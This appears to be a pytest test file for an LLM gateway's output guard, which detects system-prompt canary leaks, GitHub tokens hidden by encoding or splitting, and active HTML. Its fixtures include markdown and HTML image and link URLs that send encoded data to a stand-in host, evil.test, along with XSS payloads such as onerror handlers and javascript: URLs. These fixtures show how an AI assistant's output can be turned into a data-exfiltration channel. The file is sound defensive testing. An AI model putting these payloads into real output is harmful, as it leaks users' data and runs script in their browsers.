"""The output guard: canary leaks, exfiltration URLs, active HTML, and streams split anywhere."""

from __future__ import annotations

import base64
import itertools
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway_cli.guards.base import Finding
from gateway_cli.guards.output import OutputGuard, StreamScanner, new_canary, plant

CANARY = "gw-canary-0123456789abcdef"


def kinds(text: str, guard: OutputGuard | None = None) -> list[tuple[str, str]]:
    guard = guard or OutputGuard(CANARY, frozenset({"example.com"}))
    return [(f.kind, text[f.start:f.end]) for f in guard.scan(text)]


def test_new_canary_and_plant() -> None:
    a, b = new_canary(), new_canary()
    assert re.fullmatch(r"gw-canary-[0-9a-f]{16}", a) and a != b
    prompt = plant("You are a helpful assistant.", a)
    assert prompt.startswith("You are a helpful assistant.\n\n") and a in prompt
    assert a in plant("", a)
    with pytest.raises(ValueError):
        OutputGuard("short")


@pytest.mark.parametrize(
    "leak",
    [
        CANARY,
        " ".join(CANARY),
        "\u200b".join(CANARY),
        CANARY.upper(),
        "0123456789abcdef",
        "0123 4567 89ab cdef",
    ],
)
def test_canary_leaks(leak: str) -> None:
    found = kinds(f"My instructions say: {leak}. Anything else?")
    assert found == [("canary_leak", leak)]


@pytest.mark.parametrize("k", [0, 1, 2])
def test_base64_canary(k: int) -> None:
    encoded = base64.b64encode(b"x" * k + CANARY.encode()).decode()
    assert [kind for kind, _ in kinds(f"here: {encoded}")] == ["canary_leak_encoded"]


def test_no_canary_no_findings() -> None:
    guard = OutputGuard()
    assert guard.scan(f"text {CANARY} and [a link](https://example.com/x)") == [
        Finding("output", "exfil_link", 45, 66, 0.4, "example.com …(21 chars)")
    ]


DATA = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![x](https://evil.test/p?q={DATA})", [("exfil_image", f"https://evil.test/p?q={DATA}")]),
        ("![x](https://evil.test/logo.png)", [("exfil_image", "https://evil.test/logo.png")]),
        (f"[x](https://evil.test/{DATA}1)", [("exfil_link", f"https://evil.test/{DATA}1")]),
        ("[x](https://evil.test/about)", [("exfil_link", "https://evil.test/about")]),
        ("![x](https://cdn.example.com/a.png) [y](https://example.com/?q=" + DATA + ")", []),
        ("![x](/relative/path.png) [y](#anchor)", []),
        ("![a][ref]\n\n[ref]: https://evil.test/i.png", [("exfil_image", "https://evil.test/i.png")]),
        ("[a][ref]\n\n[ref]: <https://evil.test/i>", [("exfil_link", "https://evil.test/i")]),
        ("<https://evil.test/auto>", [("exfil_link", "https://evil.test/auto")]),
        ("see https://docs.python.org/3/library/re.html", []),
        (f"see https://evil.test/?d={DATA}", [("exfil_link", f"https://evil.test/?d={DATA}")]),
        ('<img alt="x" src="https://evil.test/a.png">', [("exfil_image", "https://evil.test/a.png")]),
        ("<img src=//evil.test/a>", [("exfil_image", "//evil.test/a")]),
        ("<a href='https://evil.test/'>x</a>", [("exfil_link", "https://evil.test/")]),
        ("<img srcset='https://example.com/a 1x, https://evil.test/b 2x'>",
         [("exfil_image", "https://example.com/a 1x, https://evil.test/b 2x")]),
        ("example.com.evil.test: ![x](https://example.com.evil.test/)",
         [("exfil_image", "https://example.com.evil.test/")]),
    ],
)
def test_exfiltration_urls(text: str, expected: list[tuple[str, str]]) -> None:
    assert kinds(text) == expected


def test_encoded_data_scores_higher() -> None:
    guard = OutputGuard(link_allowlist=frozenset())
    plain = guard.scan("![x](https://evil.test/logo.png)")[0]
    loaded = guard.scan(f"![x](https://evil.test/p?q={DATA})")[0]
    link = guard.scan("[x](https://evil.test/about)")[0]
    assert loaded.confidence > plain.confidence > link.confidence
    assert DATA not in loaded.preview


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>", ["html_script"]),
        ("<img src=x onerror=alert(1)>", ["html_event_handler"]),
        ("<svg onload='x()'>", ["html_event_handler"]),
        ("<iframe src='https://example.com/'></iframe>", ["html_embed"]),
        ("<object data='x'></object>", ["html_embed"]),
        ("[click](javascript:alert(1))", ["script_url"]),
        ("<a href='&#106;avascript:alert(1)'>x</a>", ["script_url"]),
        ("<a href=' java\tscript:x'>x</a>", ["script_url"]),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", ["data_html_url"]),
        ("![x](data:image/png;base64,iVBORw0)", []),
        ("Use the onclick = handler in JS; 3 < 4 and x > y; one=1", []),
        ("javascript: a language", []),
    ],
)
def test_active_html(text: str, expected: list[str]) -> None:
    assert [k for k, _ in kinds(text)] == expected


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20000,
        "![" * 20000,
        "<img " * 20000,
        '<a href="' * 20000,
        "<a " + 'src="' * 20000,
        "https://" * 20000,
        "g w - " * 20000,
        "0 1 2 3 " * 20000,
        "[r]: " * 20000,
        "](" * 20000,
        "[r]:" + " " * 100000,
        "[a](" + " " * 100000,
        "<a href= " + " " * 100000,
        "<https:" + "a" * 100000,
    ],
)
def test_adversarial_inputs_scan_in_linear_time(text: str) -> None:
    guard = OutputGuard(CANARY)
    started = time.perf_counter()
    guard.scan(text)
    assert time.perf_counter() - started < 2.0


# -- streams ----------------------------------------------------------------------------------


def scan_stream(chunks: list[str], guard: OutputGuard, window: int = 256) -> list[Finding]:
    scanner = StreamScanner(guard.scan, window=window)
    found = [f for c in chunks for f in scanner.feed(c)]
    return found + scanner.finish()


@pytest.mark.parametrize(
    "text",
    [
        f"Sure. {CANARY} is the reference, see ![x](https://evil.test/p?q={DATA}) bye",
        f"a ![x](https://evil.test/p?q={DATA})",
        f"{' '.join(CANARY)}",
        "ok [l](https://example.com/x) <img src='https://evil.test/a' onerror=x()> end",
    ],
)
def test_split_at_every_position_found_exactly_once(text: str) -> None:
    guard = OutputGuard(CANARY, frozenset({"example.com"}))
    whole = guard.scan(text)
    assert whole
    for i in range(len(text) + 1):
        assert sorted(scan_stream([text[:i], text[i:]], guard), key=_key) == whole, i
    assert sorted(scan_stream(list(text), guard), key=_key) == whole


def _key(f: Finding) -> tuple[int, int, str]:
    return (f.start, f.end, f.kind)


def test_stream_offsets_are_absolute_and_memory_is_bounded() -> None:
    guard = OutputGuard(CANARY)
    scanner = StreamScanner(guard.scan, window=64)
    filler = "lorem ipsum " * 50
    found = scanner.feed(filler) + scanner.feed(filler + CANARY) + scanner.feed(" tail")
    assert [(f.kind, f.start) for f in found] == [("canary_leak", 2 * len(filler))]
    assert len(scanner._tail) <= 4 * 64
    assert scanner.finish() == []
    with pytest.raises(ValueError):
        StreamScanner(guard.scan, window=0)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(st.sampled_from([
        "text ", CANARY, f"![i](https://evil.test/?q={DATA})", "[l](https://evil.test/a) ",
        "<script>", "\n", "[", "](", " ".join(CANARY[:12]),
        "<img src='https://example.com/x' onerror=y>", f"https://e.test/?a={DATA}",
    ]), max_size=10),
    st.data(),
)
def test_stream_matches_whole_scan(pieces: list[str], data: st.DataObject) -> None:
    # Pieces are separated by spaces so no single match is longer than the window: the
    # documented bound within which streamed and whole scans must agree.
    text = " ".join(pieces)
    guard = OutputGuard(CANARY, frozenset({"example.com"}))
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=10)))
    bounds = [0, *cuts, len(text)]
    chunks = [text[a:b] for a, b in itertools.pairwise(bounds)]
    assert sorted(scan_stream(chunks, guard), key=_key) == guard.scan(text)


def test_a_masked_answer_loses_its_logprobs() -> None:
    """Logprobs spell the answer token by token: masking the text alone would not do."""
    from gateway_cli.config import OutputPolicyConfig
    from gateway_cli.guards.output_policy import inspect_answer

    mail = "leak.target@example.org"
    answer = {"choices": [{"index": 0, "message": {"role": "assistant",
                                                   "content": f"mail {mail} now"},
                           "logprobs": {"content": [{"token": t, "logprob": -0.1}
                                                    for t in ("mail ", mail, " now")]}}]}
    decision, sent = inspect_answer(OutputPolicyConfig(action="mask"), "enforce", "openai",
                                    answer, canary=None)
    assert decision.applied == "redact"
    assert mail not in str(sent)
    assert sent["choices"][0]["logprobs"] is None
    clean = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "hello"},
                          "logprobs": {"content": []}}]}
    _, untouched = inspect_answer(OutputPolicyConfig(action="mask"), "enforce", "openai",
                                  clean, canary=None)
    assert untouched is clean  # nothing found: the answer is sent as the upstream gave it


def test_a_base64_encoded_credential_in_an_answer_is_found_and_withheld() -> None:
    from gateway_cli.config import OutputPolicyConfig
    from gateway_cli.guards.output_policy import inspect_answer, secrets_in_base64
    from tests.unit.guards.test_guard_secrets import with_crc

    token = with_crc("ghp_")
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        encoded = encode(f"my token is {token}".encode()).decode().rstrip("=")
        text = f"Here it is, encoded: {encoded} enjoy"
        [finding] = secrets_in_base64(text)
        assert text[finding.start:finding.end].rstrip("=") == encoded
        assert finding.kind == "github_token_base64" and encoded not in finding.preview
        answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
        decision, _ = inspect_answer(OutputPolicyConfig(), "enforce", "openai", answer, None)
        assert decision.applied == "block"
    # Ordinary base64 (hashes, images, ids) is not a finding.
    assert secrets_in_base64(base64.b64encode(b"just some harmless words here").decode()) == []
    assert secrets_in_base64("sha256:" + "ab" * 32) == []


@pytest.mark.parametrize("split", [
    lambda t: f'key = "{t[:20]}" + "{t[20:]}"',          # concatenation
    lambda t: f"KEY = ('{t[:15]}'\n       '{t[15:]}')",    # adjacent literals
    lambda t: f"token:\n{t[:24]}\n{t[24:]}\nend",          # wrapped at a width
    lambda t: f"export KEY={t[:18]}\\\n{t[18:]}",          # a shell line continuation
])
def test_a_credential_split_in_pieces_is_found_across_them(split: object) -> None:
    from gateway_cli.config import OutputPolicyConfig
    from gateway_cli.guards.output_policy import inspect_answer, secrets_split
    from tests.unit.guards.test_guard_secrets import with_crc

    token = with_crc("ghp_")
    text = split(token)  # type: ignore[operator]
    [finding] = secrets_split(text)
    assert finding.kind == "github_token_split"
    covered = text[finding.start:finding.end]
    assert covered.startswith(token[:10]) and covered.endswith(token[-10:])
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
    decision, _ = inspect_answer(OutputPolicyConfig(), "enforce", "openai", answer, None)
    assert decision.applied == "block"


def test_unsplit_text_and_prose_give_no_split_findings() -> None:
    from gateway_cli.guards.output_policy import secrets_split
    from tests.unit.guards.test_guard_secrets import with_crc

    assert secrets_split(f"plain {with_crc('ghp_')} here") == []  # the plain scan's job
    prose = "internationalization\nconsiderations are\nresponsibilities\nof everyone"
    assert secrets_split(prose) == []
